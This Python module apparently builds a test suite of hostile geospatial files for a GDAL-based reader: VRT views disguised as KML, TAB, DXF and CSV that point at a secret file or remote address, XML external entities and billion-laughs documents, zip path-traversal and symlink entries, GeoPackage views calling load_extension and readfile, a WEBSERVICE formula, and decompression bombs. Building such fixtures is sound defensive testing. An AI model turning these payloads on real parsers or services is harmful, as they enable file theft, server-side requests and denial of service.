# ruff: noqa: E501 - a document stays on one line
"""Files that say they are one thing and are another, that name other files and addresses, or that grow without end.

Each is a name and a function that writes it into a folder, given a file whose content must not come out and an address
that must not be asked. A view of GDAL that a format's own driver would never open is put behind everything by which
that format is recognised.
"""

from __future__ import annotations

import io
import os
import sqlite3
import stat
import struct
import zipfile
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

CANARY = "canary-5f3c9e"
#: Writes the file; given its folder, the secret's path and the address.
Maker = Callable[[Path, Path, str], Path]

KML = '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>{}</Document></kml>'
PLACE = "<Placemark><name>a</name><Point><coordinates>121.5,31.2</coordinates></Point></Placemark>"
PRJ = 'GEOGCS["WGS 84",DATUM["WGS_1984",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]]'


def all_of_them() -> dict[str, Maker]:
    """Every hostile file by its name."""
    made: dict[str, Maker] = {}
    for makers in (_virtual(), _documents(), _projections(), _databases(), _archives(), _links(), _spreadsheets()):
        for name, maker in makers:
            assert name not in made
            made[name] = maker
    return made


def bombs() -> dict[str, Maker]:
    """Small files that grow."""
    return dict(_bombs())


def slow(folder: Path) -> Path:
    """A file that takes a minute, and little memory: JSON that nests ever anew."""
    text = '{"type": "FeatureCollection", "features": [' + ",".join(
        f'{{"type": "Feature", "properties": {{"n": {number}}}, "geometry": {{"type": "Point", "coordinates": [1, {number % 80}]}}}}'
        for number in range(600_000)
    )
    (folder / "slow.geojson").write_text(text + "]}")
    return folder / "slow.geojson"


def _text(name: str, text: str | bytes) -> Maker:
    """A file of this name and content; ``@secret@`` and ``@url@`` are filled in."""

    def write(folder: Path, secret: Path, url: str) -> Path:
        content = text.encode() if isinstance(text, str) else text
        content = content.replace(b"@secret@", str(secret).encode()).replace(b"@url@", url.encode())
        (folder / name).write_bytes(content)
        return folder / name

    return write


# ---- virtual data sets behind the marks of other formats -----------------------------------------------------------

_TARGETS = {
    "file": "@secret@",
    "curl": "/vsicurl/@url@/a.csv",
    "streamed": "/vsicurl_streaming/@url@/a.csv",
    "csv": "CSV:@secret@",
    "part": "/vsisubfile/0_4000,@secret@",
    "wfs": "WFS:@url@/wfs",
}
_DISGUISES = {
    "plain.kml": "{}",
    "declared.kml": '<?xml version="1.0" encoding="unicode_escape"?>{}',
    "commented.kml": KML.format("<!-- {} -->" + PLACE),
    "named.kml": KML.format("<Placemark><name><![CDATA[{}]]></name></Placemark>" + PLACE),
    "table.tab": "!table\n!version 300\n!charset Neutral\n{}\n",
    "old.mif": 'Version 300\nCharset "Neutral"\n{}\n',
    "drawing.dxf": "0\nSECTION\n{}\n",
    "remark.dxf": "999\n{}\n0\nSECTION\n2\nENTITIES\n0\nENDSEC\n0\nEOF\n",
    "records.dbf": "0{}",
    "c.dbf": "C{}",
    "a.csv": "name,value\n{},1\nb,2\n",
    "a.geojson": '{{"type": "FeatureCollection", "x": "{}", "features": []}}',
    "a.gpx": '<?xml version="1.0"?><gpx version="1.1" creator="a"><!-- {} --></gpx>',
    "a.osm": '<?xml version="1.0"?><osm version="0.6"><!-- {} --></osm>',
    "a.vrt": "{}",
    "a.gml": "{}",
}


def _virtual() -> Iterator[tuple[str, Maker]]:
    for target, source in _TARGETS.items():
        view = (
            '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource relativeToVRT="0">' + source + "</SrcDataSource>"
            "<SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource>"
        )
        for name, disguise in _DISGUISES.items():
            body = view.replace('"', "'") if name.endswith("json") or name == "a.csv" else view
            yield (
                f"virtual {target} as {name}",
                _text(name, disguise.replace("{{", "{").replace("}}", "}").replace("{}", body)),
            )
    union = '<OGRVRTDataSource><OGRVRTUnionLayer name="u"><OGRVRTLayer name="a"><SrcDataSource>@secret@</SrcDataSource></OGRVRTLayer></OGRVRTUnionLayer></OGRVRTDataSource>'
    yield "union as tab", _text("u.tab", "!table\n" + union)
    asking = '<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>@secret@</SrcDataSource><SrcSQL>SELECT * FROM secret</SrcSQL></OGRVRTLayer></OGRVRTDataSource>'
    yield "query as mif", _text("q.mif", "Version 300\n" + asking)
    yield (
        "raster view as dxf",
        _text("r.dxf", "0\nSECTION\n<VRTDataset><SourceFilename>/vsicurl/@url@/a.tif</SourceFilename></VRTDataset>"),
    )
    yield (
        "pipeline as tab",
        _text("p.tab", '!table\n{"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline ! read @secret@"}'),
    )
    yield (
        "escaped kml",
        _text(
            "e.kml",
            '<?xml version="1.0" encoding="unicode_escape"?>\\x3cOGRVRTDataSource\\x3e\\x3cOGRVRTLayer name="a"\\x3e'
            "\\x3cSrcDataSource\\x3e@secret@\\x3c/SrcDataSource\\x3e\\x3c/OGRVRTLayer\\x3e\\x3c/OGRVRTDataSource\\x3e",
        ),
    )
    yield (
        "seamless tab",
        _text(
            "s.tab",
            '!table\n!version 700\n!charset WindowsLatin1\n\nDefinition Table\n  Type NATIVE Charset "WindowsLatin1"\n'
            "  Fields 1\n    Table Char (254) ;\nbegin_metadata\n"
            '"\\IsSeamless" = "TRUE"\n"\\IsSeamless\\Name" = "@secret@"\nend_metadata\n',
        ),
    )
    yield (
        "linked tab",
        _text(
            "l.tab",
            '!table\n!version 300\nDefinition Table\n  File "@secret@"\n  Type LINKED\n  Fields 1\n    a Char (9) ;\n',
        ),
    )
    yield (
        "picture tab",
        _text("i.tab", '!table\n!version 300\nDefinition Table\n  File "/vsicurl/@url@/a.tif"\n  Type "RASTER"\n'),
    )
    yield (
        "table of dbase elsewhere",
        _text(
            "d.tab",
            '!table\n!version 300\nDefinition Table\n  Type DBF\n  File "@secret@"\n  Fields 1\n    a Char (9) ;\n',
        ),
    )


# ---- documents that name others ------------------------------------------------------------------------------------

_ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "{}">]>'
_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def _documents() -> Iterator[tuple[str, Maker]]:
    yield (
        "network link",
        _text("n.kml", KML.format("<NetworkLink><Link><href>@url@/a.kml</href></Link></NetworkLink>" + PLACE)),
    )
    yield "link to a file", _text("f.kml", KML.format("<NetworkLink><Link><href>@secret@</href></Link></NetworkLink>"))
    yield (
        "overlay",
        _text("o.kml", KML.format("<GroundOverlay><Icon><href>@url@/a.png</href></Icon></GroundOverlay>" + PLACE)),
    )
    yield (
        "style elsewhere",
        _text("s.kml", KML.format(PLACE.replace("<name>", "<styleUrl>@url@/a.kml#s</styleUrl><name>"))),
    )
    yield (
        "model elsewhere",
        _text("m.kml", KML.format("<Placemark><Model><Link><href>@url@/a.dae</href></Link></Model></Placemark>")),
    )
    yield (
        "schema elsewhere",
        _text(
            "c.kml",
            KML.replace(
                "xmlns=",
                'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="a @url@/a.xsd" xmlns=',
            ).format(PLACE),
        ),
    )
    yield (
        "included",
        _text(
            "i.kml",
            KML.format('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="@secret@" parse="text"/>' + PLACE),
        ),
    )
    yield (
        "style sheet",
        _text("t.kml", '<?xml version="1.0"?><?xml-stylesheet href="@url@/a.xsl"?>' + KML[21:].format(PLACE)),
    )
    for root, name in (("kml", "e.kml"), ("gpx", "e.gpx"), ("osm", "e.osm"), ("service_requests", "e.xml")):
        for kind, target in (("file", "file://@secret@"), ("address", "@url@/a")):
            yield f"entity of a {kind} in {root}", _text(name, _ENTITY.replace("{}", target) + f"<{root}>&x;</{root}>")
        yield f"laughs in {root}", _text(name, _LAUGHS + f"<{root}>&a9;</{root}>")
        yield (
            f"parameter entity in {root}",
            _text(name, f'<?xml version="1.0"?><!DOCTYPE a SYSTEM "@url@/a.dtd"><{root}/>'),
        )
    yield (
        "link of a track",
        _text(
            "l.gpx",
            '<?xml version="1.0"?><gpx version="1.1" creator="a"><wpt lat="31.2" lon="121.5"><link href="@url@/a"/></wpt></gpx>',
        ),
    )
    yield (
        "reference of a drawing",
        _text("x.dxf", "0\nSECTION\n2\nBLOCKS\n0\nBLOCK\n2\nx\n70\n4\n1\n@secret@\n0\nENDBLK\n0\nENDSEC\n0\nEOF\n"),
    )
    yield (
        "system by link",
        _text(
            "g.geojson",
            '{"type": "FeatureCollection", "crs": {"type": "link", "properties": {"href": "@url@/a"}}, "features": [{"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [121.5, 31.2]}}]}',
        ),
    )
    yield (
        "system by file",
        _text(
            "h.geojson",
            '{"type": "FeatureCollection", "crs": {"type": "name", "properties": {"name": "+init=@secret@:x"}}, "features": [{"type": "Feature", "properties": {}, "geometry": {"type": "Point", "coordinates": [121.5, 31.2]}}]}',
        ),
    )
    yield (
        "feature collection of a service",
        _text(
            "w.gml",
            '<wfs:FeatureCollection xmlns:wfs="http://www.opengis.net/wfs" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="@url@/a"/></wfs:FeatureCollection>',
        ),
    )
    yield "page with a frame", _text("p.csv", '<html><iframe src="@url@/a"></iframe></html>')
    yield "tiles", _text("a.pmtiles", b"PMTiles\x03" + bytes(200))
    yield "formula that fetches", _text("f.csv", 'name,a\n"=WEBSERVICE(""@url@/a"")",1\n')


# ---- a shapefile whose other parts lie -----------------------------------------------------------------------------


def _shapefile(folder: Path, parts: dict[str, str], secret: Path, url: str) -> Path:
    """A point as a shapefile, with these texts beside it."""
    record = struct.pack(">ii", 1, 10) + struct.pack("<idd", 1, 121.5, 31.2)
    box = struct.pack("<8d", 121.5, 31.2, 121.5, 31.2, 0, 0, 0, 0)
    head = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, (100 + len(record)) // 2) + struct.pack("<ii", 1000, 1) + box
    (folder / "a.shp").write_bytes(head + record)
    table = (
        struct.pack("<BBBBIHH20x", 3, 126, 1, 1, 1, 65, 11)
        + b"name\0\0\0\0\0\0\0C"
        + bytes(4)
        + bytes([10])
        + bytes(15)
    )
    (folder / "a.dbf").write_bytes(table + b"\x0d" + b" " + b"\\x41\xc0\xcf".ljust(10))
    for suffix, text in parts.items():
        (folder / f"a{suffix}").write_text(text.replace("@secret@", str(secret)).replace("@url@", url))
    return folder / "a.shp"


def _projections() -> Iterator[tuple[str, Maker]]:
    texts = {
        "path": "@secret@",
        "address": "@url@/a.prj",
        "curl": "/vsicurl/@url@/a.prj",
        "init": "+init=@secret@:x",
        "grids": "+proj=longlat +nadgrids=@secret@ +no_defs",
        "file address": "file://@secret@",
        "network grid": PRJ.replace('"WGS 84"', '"@@url@/a.gsb"'),
        "import": "IMPORT_FROM_WKT @secret@",
        "urn": "urn:ogc:def:crs:EPSG::@url@",
        "pipeline": "+proj=pipeline +step +proj=hgridshift +grids=@url@/a.tif",
        "nested": PRJ[:9] * 3000,
    }
    for name, text in texts.items():
        yield (
            f"projection by {name}",
            lambda folder, secret, url, text=text: _shapefile(folder, {".prj": text}, secret, url),
        )
    for name, text in {"escape": "unicode_escape", "path": "../../@secret@", "coding": "idna"}.items():
        yield (
            f"code page by {name}",
            lambda folder, secret, url, text=text: _shapefile(folder, {".prj": PRJ, ".cpg": text}, secret, url),
        )
    yield (
        "names from a link",
        lambda folder, secret, url: _linked(_shapefile(folder, {".prj": PRJ}, secret, url), secret),
    )


def _linked(path: Path, secret: Path) -> Path:
    path.with_suffix(".cpg").symlink_to(secret)
    return path


# ---- databases that compute ----------------------------------------------------------------------------------------

_LISTS = """
    CREATE TABLE gpkg_spatial_ref_sys (srs_name TEXT, srs_id INTEGER PRIMARY KEY, organization TEXT,
        organization_coordsys_id INTEGER, definition TEXT, description TEXT);
    INSERT INTO gpkg_spatial_ref_sys VALUES ('WGS 84', 4326, 'EPSG', 4326, '', ''), ('u', 0, 'NONE', 0, 'undefined', '');
    CREATE TABLE gpkg_contents (table_name TEXT PRIMARY KEY, data_type TEXT, identifier TEXT, description TEXT,
        last_change DATETIME, min_x DOUBLE, min_y DOUBLE, max_x DOUBLE, max_y DOUBLE, srs_id INTEGER);
    CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, geometry_type_name TEXT, srs_id INTEGER,
        z INTEGER, m INTEGER);
    CREATE TABLE plain (id INTEGER PRIMARY KEY, name TEXT);
    INSERT INTO plain (name) VALUES ('one'), ('two');
    INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('plain', 'attributes', 'plain', 0);
    PRAGMA application_id = 1196444487; PRAGMA user_version = 10300;
"""
_ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS id, 'x' AS name FROM n"
_LISTED = (
    "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('bad', 'attributes', 'bad', 0);"
)


def _database(name: str, script: str, schema: str = "") -> Maker:
    def write(folder: Path, secret: Path, url: str) -> Path:
        path = folder / name
        fill = lambda text: text.replace("@secret@", str(secret)).replace("@url@", url)  # noqa: E731
        with closing(sqlite3.connect(path)) as database:
            database.executescript(_LISTS + fill(script))
            if schema:
                database.execute("PRAGMA writable_schema = ON")
                database.execute(
                    "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'bad', 'bad', 0, ?)",
                    (fill(schema),),
                )
                database.commit()
        return path

    return write


def _databases() -> Iterator[tuple[str, Maker]]:
    yield "endless view", _database("v.gpkg", f"CREATE VIEW bad AS {_ENDLESS}; {_LISTED}")
    yield (
        "endless view that counts",
        _database("c.gpkg", f"CREATE VIEW bad AS SELECT count(*) AS id FROM ({_ENDLESS}); {_LISTED}"),
    )
    yield "endless view in place of a list", _database("l.gpkg", f"CREATE VIEW gpkg_extensions AS {_ENDLESS};")
    yield (
        "view that loads a library",
        _database("d.gpkg", f"CREATE VIEW bad AS SELECT load_extension('@secret@') AS name; {_LISTED}"),
    )
    yield (
        "view that reads a file",
        _database("r.gpkg", f"CREATE VIEW bad AS SELECT readfile('@secret@') AS name; {_LISTED}"),
    )
    yield (
        "view that geocodes",
        _database("g.gpkg", f"CREATE VIEW bad AS SELECT ogr_geocode('@url@') AS name; {_LISTED}"),
    )
    yield (
        "trigger",
        _database(
            "t.gpkg", f"CREATE TRIGGER bad AFTER DELETE ON gpkg_contents BEGIN INSERT INTO plain {_ENDLESS}; END;"
        ),
    )
    yield "virtual table of gdal", _database("o.gpkg", _LISTED, "CREATE VIRTUAL TABLE bad USING VirtualOGR('@secret@')")
    yield (
        "virtual table of an address",
        _database("a.gpkg", _LISTED, "CREATE VIRTUAL TABLE bad USING VirtualOGR('/vsicurl/@url@/a.csv')"),
    )
    yield (
        "virtual table of a shapefile",
        _database("s.sqlite", _LISTED, "CREATE VIRTUAL TABLE bad USING VirtualShape('@secret@', UTF-8, 4326)"),
    )
    yield (
        "virtual table of a text",
        _database("x.gpkg", _LISTED, "CREATE VIRTUAL TABLE bad USING csv(filename='@secret@')"),
    )
    yield "virtual table of a page", _database("p.gpkg", _LISTED, "CREATE VIRTUAL TABLE bad USING dbstat")
    yield "blob without end", _database("b.gpkg", f"CREATE VIEW bad AS SELECT zeroblob(2000000000) AS name; {_LISTED}")
    yield "damaged schema", _database("m.gpkg", _LISTED, "CREATE NONSENSE @secret@")


# ---- archives ------------------------------------------------------------------------------------------------------


def _archive(name: str, entries: dict[str, str | bytes], kind: int = 0) -> Maker:
    def write(folder: Path, secret: Path, url: str) -> Path:
        with zipfile.ZipFile(folder / name, "w", zipfile.ZIP_DEFLATED) as archive:
            for entry, content in entries.items():
                info = zipfile.ZipInfo(entry.replace("@secret@", str(secret)))
                info.external_attr = kind << 16
                data = content.encode() if isinstance(content, str) else content
                info.compress_type = zipfile.ZIP_DEFLATED
                archive.writestr(info, data.replace(b"@secret@", str(secret).encode()).replace(b"@url@", url.encode()))
        return folder / name

    return write


def _archives() -> Iterator[tuple[str, Maker]]:
    for name, entry in {
        "parent": "../../a.csv",
        "absolute": "@secret@",
        "windows": "C:\\a.csv",
        "backslash": "..\\..\\a.csv",
        "middle": "a/../../../a.csv",
        "zero": "a\0/../b.csv",
        "share": "\\\\127.0.0.1\\a\\b.csv",
    }.items():
        yield f"entry by {name}", _archive("a.zip", {entry: "name,a\nx,1\n"})
    yield "link in an archive", _archive("l.zip", {"a.csv": "@secret@"}, stat.S_IFLNK | 0o777)
    yield "link to a folder in an archive", _archive("f.zip", {"a.gdb": "/etc"}, stat.S_IFLNK | 0o777)
    yield "device in an archive", _archive("d.zip", {"a.csv": "@secret@"}, stat.S_IFBLK | 0o666)
    yield (
        "view in an archive",
        _archive(
            "v.zip",
            {
                "a.kml": "<OGRVRTDataSource><OGRVRTLayer name='a'><SrcDataSource>@secret@</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
                "b.tab": "!table\n<OGRVRTDataSource/>",
            },
        ),
    )
    yield "archive in an archive", _archive("n.zip", {"a.zip": _packed({"a.csv": b"a,b\n1,2\n"})})
    yield (
        "database that is none",
        _archive("g.zip", {"a.gdb/a00000001.gdbtable": b"\3\0\0\0" + bytes(60), "a.gdb/a00000001.gdbtablx": bytes(16)}),
    )
    yield (
        "database of a view",
        _archive("w.zip", {"a.gdb/gdb": "<OGRVRTDataSource/>", "a.gdb/a.vrt": "<OGRVRTDataSource/>"}),
    )
    yield (
        "link of a packed document",
        _archive(
            "k.kmz", {"doc.kml": KML.format("<NetworkLink><Link><href>@url@/a.kml</href></Link></NetworkLink>" + PLACE)}
        ),
    )
    yield "tiles in an archive", _archive("t.zip", {"a.mbtiles": b"SQLite format 3\0" + bytes(400)})


def _packed(entries: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return packed.getvalue()


# ---- links and other things that are no files ----------------------------------------------------------------------


def _links() -> Iterator[tuple[str, Maker]]:
    def link(folder: Path, secret: Path, _url: str) -> Path:
        (folder / "a.csv").symlink_to(secret)
        return folder / "a.csv"

    def inside(folder: Path, secret: Path, _url: str) -> Path:
        (folder / "all").mkdir()
        (folder / "all" / "a.csv").symlink_to(secret)
        return folder / "all"

    def database(folder: Path, secret: Path, _url: str) -> Path:
        (folder / "a.gdb").mkdir()
        (folder / "a.gdb" / "a00000001.gdbtable").symlink_to(secret)
        return folder / "a.gdb"

    def pipe(folder: Path, _secret: Path, _url: str) -> Path:
        os.mkfifo(folder / "a.csv")
        return folder / "a.csv"

    yield "link", link
    yield "link in a folder", inside
    yield "link in a database", database
    yield "pipe", pipe
    yield "device", lambda _folder, _secret, _url: Path("/dev/zero")
    yield "address as a path", lambda _folder, _secret, url: Path(f"/vsicurl/{url}/a.csv")
    yield "archive as a path", lambda _folder, secret, _url: Path(f"/vsizip/{secret}")


# ---- spreadsheets --------------------------------------------------------------------------------------------------

_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_SHEET = f'<worksheet xmlns="{_SPACE}"><sheetData>{{}}</sheetData></worksheet>'
_MAIN = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _book(
    name: str,
    sheet: bytes | str,
    strings: bytes | str = "",
    links: str = "",
    head: str = "",
    *,
    styles: str = "",
    sheets: int = 1,
) -> Maker:
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    relation = '<Relationship Id="{}" Type="' + _MAIN + '/{}" Target="{}"{}/>'
    package = "http://schemas.openxmlformats.org/package/2006"
    entries: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
        f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/>'
        f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kinds}.sharedStrings+xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships">'
        + relation.format("r1", "officeDocument", "xl/workbook.xml", "")
        + "</Relationships>",
        "xl/workbook.xml": head
        + f'<workbook xmlns="{_SPACE}" xmlns:r="{_MAIN}"><sheets>'
        + "".join(f'<sheet name="{"a" * bool(n == 1) or n}" sheetId="{n}" r:id="r1"/>' for n in range(1, sheets + 1))
        + "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships">'
        + relation.format("r1", "worksheet", "worksheets/sheet1.xml", "")
        + relation.format("r2", "sharedStrings", "sharedStrings.xml", "")
        + (relation.format("r9", "styles", "styles.xml", "") if styles else "")
        + links
        + "</Relationships>",
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": strings or f'<sst xmlns="{_SPACE}"/>',
        **({"xl/styles.xml": f'<styleSheet xmlns="{_SPACE}">{styles}</styleSheet>'} if styles else {}),
    }
    return _archive(name, entries)


def _spreadsheets() -> Iterator[tuple[str, Maker]]:
    row = '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row><row r="2"><c r="A2"><v>1</v></c></row>'
    outside = f'<Relationship Id="r3" Type="{_MAIN}/externalLink" Target="@url@/a.xlsx" TargetMode="External"/>'
    yield "link of a spreadsheet", _book("l.xlsx", _SHEET.format(row), links=outside)
    yield (
        "entity in a spreadsheet",
        _book("e.xlsx", _ENTITY.replace("{}", "file://@secret@") + _SHEET.format(row.replace("name", "&x;"))),
    )
    yield "entity in a list of sheets", _book("w.xlsx", _SHEET.format(row), head=_ENTITY.replace("{}", "@url@/a"))
    yield "laughs in a spreadsheet", _book("b.xlsx", _LAUGHS + _SHEET.format(row.replace("name", "&a9;")))
    yield (
        "laughs in its texts",
        _book("t.xlsx", _SHEET.format(row), strings=_LAUGHS + "<sst><si><t>&a9;</t></si></sst>"),
    )
    yield (
        "sheet out of the archive",
        _book(
            "o.xlsx",
            _SHEET.format(row),
            links=f'<Relationship Id="r1" Type="{_MAIN}/worksheet" Target="../../../../@secret@"/>',
        ),
    )


# ---- bombs ---------------------------------------------------------------------------------------------------------


def _bombs() -> Iterator[tuple[str, Maker]]:
    yield "archive of zeros", _archive("z.zip", {"a.csv": bytes(60 << 20)})
    yield "archive of commas", _archive("c.zip", {"a.csv": b"," * (60 << 20)})
    yield "archive of brackets", _archive("b.zip", {"a.geojson": b"[" * (60 << 20)})
    yield "archive of cells", _archive("q.zip", {"a.csv": b"a,b\n" + b"1,2\n" * (15 << 20)})
    yield "archive of objects", _archive("j.zip", {"a.json": b"[" + b"{}," * (20 << 20) + b"{}]"})
    yield (
        "archive of features",
        _archive(
            "f.zip",
            {
                "a.geojson": b'{"type": "FeatureCollection", "features": ['
                + b'{"type": "Feature"},' * (3 << 20)
                + b"{}]}"
            },
        ),
    )
    yield "archive of places", _archive("p.zip", {"a.kml": KML.format(PLACE * 600_000)})
    yield (
        "archive of points",
        _archive(
            "g.zip", {"a.geojson": b'{"type": "MultiPoint", "coordinates": [' + b"[1,2]," * (10 << 20) + b"[1,2]]}"}
        ),
    )
    yield "archive that lies", _lying
    yield (
        "text shared by all cells",
        _book(
            "s.xlsx",
            _SHEET.format("".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 60_000))),
            f'<sst xmlns="{_SPACE}"><si><t>{"x" * (1 << 20)}</t></si></sst>',
        ),
    )
    yield (
        "sheet to the last cell",
        _book(
            "d.xlsx", _SHEET.format("".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 40_000)))
        ),
    )
    yield (
        "row at the end",
        _book(
            "r.xlsx",
            _SHEET.format(
                '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
            ),
        ),
    )
    yield (
        "merged over everything",
        _book(
            "m.xlsx",
            _SHEET.format('<row r="1"><c r="A1"><v>1</v></c></row>').replace(
                "</sheetData>", "</sheetData><mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 1000 + "</mergeCells>"
            ),
        ),
    )
    cell = _SHEET.format('<row r="1"><c r="A1" s="1"><v>1</v></c></row>')
    yield "sheets without end", _book("n.xlsx", cell, sheets=30_000)
    yield (
        "texts without end",
        _book("h.xlsx", cell, strings=f'<sst xmlns="{_SPACE}">' + "<si><t>a</t></si>" * (3 << 20) + "</sst>"),
    )
    yield (
        "styles without end",
        _book(
            "y.xlsx", cell, styles="<cellXfs>" + '<xf numFmtId="14" applyNumberFormat="1"/>' * (1 << 20) + "</cellXfs>"
        ),
    )
    yield "styles within styles", _book("w.xlsx", cell, styles="<dxfs>" + "<dxf><fill>" * (1 << 19) + "</dxfs>")
    yield (
        "formats of one letter",
        _book(
            "k.xlsx",
            cell,
            styles="<numFmts>" + f'<numFmt numFmtId="164" formatCode="{"[" * (1 << 20)}"/>' * 20 + "</numFmts>"
            '<cellXfs><xf numFmtId="0"/><xf numFmtId="164"/></cellXfs>',
        ),
    )
    yield "elements within elements", _book("x.xlsx", _SHEET.format("<row><c>" * (1 << 20)))
    yield "columns of one value", _columns
    yield "text of one value", _repeated


def _lying(folder: Path, _secret: Path, _url: str) -> Path:
    """An entry that says it unpacks to a kilobyte."""
    content = bytearray(_packed({"a.csv": bytes(200 << 20)}))
    size = struct.pack("<I", 200 << 20)
    while (at := content.find(size)) >= 0:
        content[at : at + 4] = struct.pack("<I", 1000)
    (folder / "lie.zip").write_bytes(content)
    return folder / "lie.zip"


def _columns(folder: Path, _secret: Path, _url: str) -> Path:
    """Some hundred kilobytes of Parquet that are a gigabyte of numbers."""
    column = pa.array(np.zeros(3_000_000))
    pq.write_table(pa.table({f"c{n}": column for n in range(40)}), folder / "a.parquet", compression="zstd")
    return folder / "a.parquet"


def _repeated(folder: Path, _secret: Path, _url: str) -> Path:
    """A long text that a dictionary repeats for each row."""
    texts = pa.DictionaryArray.from_arrays(pa.array(np.zeros(1_000_000, dtype=np.int32)), ["x" * 100_000])
    pq.write_table(pa.table({"name": texts}), folder / "a.parquet")
    return folder / "a.parquet"
